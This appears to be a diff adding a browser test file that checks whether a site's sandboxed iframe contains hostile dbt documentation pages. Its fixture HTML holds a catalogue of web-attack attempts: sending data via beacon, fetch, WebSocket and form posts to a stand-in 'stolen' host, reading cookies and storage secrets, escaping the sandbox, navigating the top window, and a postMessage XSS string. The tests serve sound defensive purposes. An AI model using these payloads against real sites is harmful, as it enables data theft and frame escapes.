@@ -1,0 +1,214 @@
+"""What hostile dbt docs can do in the frame that shows them, and that honest ones can be read there."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import dbt.task.docs
+import pytest
+
+from meshwright.site.dbt_docs import dbt_docs_files, dbt_docs_path
+from tests.browser.written import written
+from tests.unit.site.example_mesh import MESH
+from tests.unit.site.whole_site import site_of
+
+pytestmark = pytest.mark.xdist_group("browser")
+
+# What the address of somebody else's host is put in place of.
+ELSEWHERE = "http://elsewhere.invalid/stolen"
+
+# Each line tries one thing; what worked is kept in `did`, which only the test can see from outside.
+HOSTILE = (
+    f"""<!doctype html><html><head><title>dbt Docs</title>
+<link rel="stylesheet" href="{ELSEWHERE}.css"><link rel="preload" as="image" href="{ELSEWHERE}-preload">
+<link rel="preconnect" href="{ELSEWHERE}"><link rel="prefetch" href="{ELSEWHERE}-prefetch"><script src="{ELSEWHERE}.js"></script></head><body>
+<img src="{ELSEWHERE}.png"><iframe src="{ELSEWHERE}-frame"></iframe><video src="{ELSEWHERE}.mp4"></video>
+<iframe src="../../index.html"></iframe>
+<object data="{ELSEWHERE}-object"></object><embed src="{ELSEWHERE}-embed">
+<style>@import url({ELSEWHERE}-import); body {{ background: url({ELSEWHERE}-background) }}</style>
+<base href="{ELSEWHERE}">
+<form id="f" action="{ELSEWHERE}" method="post"><input name="a" value="b"></form>
+<a id="top" target="_top" href="{ELSEWHERE}-top">x</a><a id="blank" target="_blank" href="{ELSEWHERE}-blank">x</a>
+<p id="read">read me</p>
+<script>"""
+    + r"""
+var did = [], ELSEWHERE = '%s';
+function tries(name, act) { try { if (act() !== false) did.push(name); } catch (error) { } }
+tries('parent title', function () { parent.document.title = 'PWNED'; });
+tries('top title', function () { top.document.title = 'PWNED'; });
+tries('parent value', function () { parent.PWNED = 1; });
+tries('top value', function () { top.PWNED = 1; });
+tries('frame element', function () { return frameElement !== null; });
+tries('remove the sandbox', function () { frameElement.removeAttribute('sandbox'); });
+tries('theme', function () { localStorage.setItem('mesh-theme', 'PWNED'); return false; });
+tries('cookie', function () { document.cookie = 'stolen=1'; return document.cookie.indexOf('stolen') >= 0; });
+tries('site cookie', function () { return document.cookie.indexOf('secret') >= 0; });
+tries('site storage', function () { return localStorage.getItem('secret') !== null; });
+tries('delete the shim', function () { delete window.localStorage; return localStorage.getItem('secret') !== null; });
+tries('prototype storage', function () {
+  var get = Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage');
+  return get.get.call(window).getItem('secret') !== null;
+});
+tries('database', function () {
+  indexedDB.open('x').onsuccess = function () { did.push('database opened'); }; return false;
+});
+tries('parent alert', function () { parent.alert('PWNED'); });
+tries('alert', function () { alert('PWNED'); return false; });
+tries('popup', function () { return window.open(ELSEWHERE + '-popup') !== null; });
+tries('beacon', function () { navigator.sendBeacon(ELSEWHERE + '-beacon', 'x'); return false; });
+tries('socket', function () { new WebSocket('ws' + ELSEWHERE.slice(4) + '').onopen = function () { did.push('socket'); }; return false; });
+tries('worker', function () {
+  new Worker(URL.createObjectURL(new Blob(['fetch("' + ELSEWHERE + '-worker")'], {type: 'text/javascript'}))); return false;
+});
+tries('xhr', function () { var x = new XMLHttpRequest(); x.open('GET', ELSEWHERE + '-xhr'); x.send(); return false; });
+tries('fetch', function () { fetch(ELSEWHERE + '-fetch', {mode: 'no-cors'}).then(function () { did.push('fetched'); }, function () {}); return false; });
+tries('read the site', function () {
+  fetch('../../domains/weather/domain.json').then(function () { did.push('read the site'); }, function () {}); return false;
+});
+tries('image', function () { new Image().src = ELSEWHERE + '-image'; return false; });
+tries('rtc', function () { return Boolean(window.RTCPeerConnection); });
+tries('message', function () { parent.postMessage({type: 'theme', html: '<img src=x onerror=alert(1)>'}, '*'); return false; });
+tries('form', function () { document.getElementById('f').submit(); return false; });
+tries('top link', function () { document.getElementById('top').click(); return false; });
+tries('blank link', function () { document.getElementById('blank').click(); return false; });
+tries('top location', function () { top.location = ELSEWHERE + '-top2'; return top.location.href === ELSEWHERE; });
+tries('parent location', function () { parent.location.replace(ELSEWHERE + '-parent'); return false; });
+tries('top script', function () { top.location = 'javascript:document.title=1'; return false; });
+tries('open top', function () { return window.open(ELSEWHERE + '-open-top', '_top') !== null; });
+document.body.setAttribute('data-did', JSON.stringify(did));
+setTimeout(function () { document.body.setAttribute('data-did', JSON.stringify(did)); document.body.setAttribute('data-done', '1'); }, 300);
+</script></body></html>"""
+    % ELSEWHERE
+)
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory, elsewhere):
+    """The site of the example, with hostile dbt docs in one domain."""
+    site = site_of(MESH, {"weather": dbt_docs_path("weather"), "fleet": dbt_docs_path("fleet")})
+    files = {
+        **site,
+        **dict(dbt_docs_files("weather", HOSTILE.replace(ELSEWHERE, elsewhere.address).encode())),
+        **dict(dbt_docs_files("fleet", honest().encode())),
+    }
+    return written(tmp_path_factory.mktemp("site"), files)
+
+
+@pytest.fixture(scope="module", params=["file", "http"])
+def home(request, folder, served):
+    """Where the site lies: on a disk, and on a server."""
+    return folder.as_uri() if request.param == "file" else served(folder)
+
+
+def honest():
+    """The file that `dbt docs generate --static` writes, for a project with one model."""
+    page = (Path(dbt.task.docs.__file__).parent / "index.html").read_text(encoding="utf-8")
+    node = {
+        "unique_id": "model.fleet.planes",
+        "resource_type": "model",
+        "package_name": "fleet",
+        "name": "planes",
+        "alias": "planes",
+        "path": "planes.sql",
+        "original_file_path": "models/planes.sql",
+        "database": "db",
+        "schema": "main",
+        "description": "One row for each plane, says the docs.",
+        "columns": {},
+        "tags": [],
+        "meta": {},
+        "config": {"materialized": "table", "enabled": True},
+        "depends_on": {"nodes": [], "macros": []},
+        "refs": [],
+        "sources": [],
+        "fqn": ["fleet", "planes"],
+        "raw_code": "select 1",
+        "language": "sql",
+        "access": "public",
+        "docs": {"show": True},
+    }
+    manifest = {
+        "metadata": {"project_name": "fleet", "dbt_version": "1.11.0", "adapter_type": "duckdb"},
+        "nodes": {node["unique_id"]: node},
+        **{
+            key: {}
+            for key in (
+                "sources", "macros", "exposures", "metrics", "semantic_models", "saved_queries", "unit_tests", "groups",
+                "selectors", "disabled", "parent_map", "child_map",
+            )
+        },
+        "docs": {"doc.dbt.__overview__": {"name": "__overview__", "package_name": "dbt", "block_contents": "# Hello"}},
+    }
+    catalog = {"metadata": {}, "nodes": {}, "sources": {}, "errors": None}
+    return page.replace('"MANIFEST.JSON INLINE DATA"', json.dumps(manifest)).replace(
+        '"CATALOG.JSON INLINE DATA"', json.dumps(catalog)
+    )
+
+
+def test_hostile_docs_reach_neither_the_site_nor_its_storage_nor_the_network(visit, home, elsewhere):
+    visit = visit()
+    visit.context.add_cookies([{"name": "secret", "value": "1", "url": home}] if home.startswith("http") else [])
+    page = visit.open(f"{home}/index.html")
+    page.evaluate("localStorage.setItem('secret', '1')")
+    page.goto(f"{home}/dbt/weather/index.html")
+    body = page.frame_locator("iframe.dbt-docs").locator("body[data-done]")
+    assert json.loads(body.get_attribute("data-did")) == []  # and the script ran, or there were no such attribute
+    assert page.url == f"{home}/dbt/weather/index.html"
+    assert page.title() == "dbt docs of weather - data mesh"
+    assert page.evaluate("window.PWNED") is None
+    assert page.evaluate("localStorage.getItem('mesh-theme')") is None
+    assert page.evaluate("localStorage.getItem('secret')") == "1"
+    assert "stolen" not in page.evaluate("document.cookie")
+    assert page.locator("iframe.dbt-docs").get_attribute("sandbox") == "allow-scripts"
+    assert elsewhere.asked == []
+    assert visit.dialogs == []
+    assert len(visit.context.pages) == 1
+
+
+def test_what_navigates_its_own_frame_away_gets_nowhere(visit, home, folder, elsewhere):
+    away = f"<script>location.href = '{elsewhere.address}?' + document.title</script>"
+    refresh = f'<meta http-equiv="refresh" content="0;url={elsewhere.address}">'
+    for name, html in (("away", away), ("refresh", refresh)):
+        written(folder, dict(dbt_docs_files(name, html.encode())))
+        page = visit().open(f"{home}/dbt/{name}/index.html")
+        page.wait_for_timeout(300)
+        assert page.url == f"{home}/dbt/{name}/index.html"
+    assert elsewhere.asked == []
+
+
+def test_without_the_frame_the_same_docs_would_reach_the_network(visit, served, tmp_path, elsewhere):
+    written(tmp_path, {"bare.html": HOSTILE.replace(ELSEWHERE, elsewhere.address)})
+    visit().open(f"{served(tmp_path)}/bare.html", "commit").wait_for_timeout(300)
+    assert len(elsewhere.asked) > 5
+    elsewhere.asked.clear()
+
+
+def test_opened_directly_they_lead_to_our_page_and_nothing_of_them_runs(visit, home, folder):
+    html = "<title>PWNED</title><script>localStorage.setItem('ran', '1')</script><img src=x onerror=\"localStorage.setItem('ran', '2')\">"
+    written(folder, dict(dbt_docs_files("silent", html.encode())))
+    visitor = visit()
+    page = visitor.open(f"{home}/dbt/silent/docs.html", "commit")
+    page.wait_for_url(f"{home}/dbt/silent/index.html")
+    assert page.evaluate("localStorage.getItem('ran')") is None
+    assert visitor.elsewhere(home) == []
+
+
+def test_in_a_frame_without_a_sandbox_they_do_not_run(visit, served, folder):
+    html = "<script>parent.PWNED = 1; localStorage.setItem('ran', '1')</script>"
+    written(folder, dict(dbt_docs_files("bare", html.encode())))
+    written(folder, {"frame.html": '<!doctype html><iframe src="dbt/bare/docs.html"></iframe>'})
+    page = visit().open(f"{served(folder)}/frame.html")
+    page.wait_for_timeout(200)
+    assert page.evaluate("[window.PWNED, localStorage.getItem('ran')]") == [None, None]
+
+
+def test_honest_docs_are_read_and_walked_through(visit, home):
+    visitor = visit()
+    page = visitor.open(f"{home}/domains/fleet/index.html")
+    page.get_by_role("link", name="dbt docs").click()
+    frame = page.frame_locator("iframe.dbt-docs")
+    frame.get_by_text("Hello").wait_for()
+    frame.get_by_text("Hello").evaluate("() => { location.hash = '#!/model/model.fleet.planes'; }")
+    frame.get_by_role("paragraph").filter(has_text="One row for each plane, says the docs.").first.wait_for()
+    assert visitor.elsewhere(home) == []
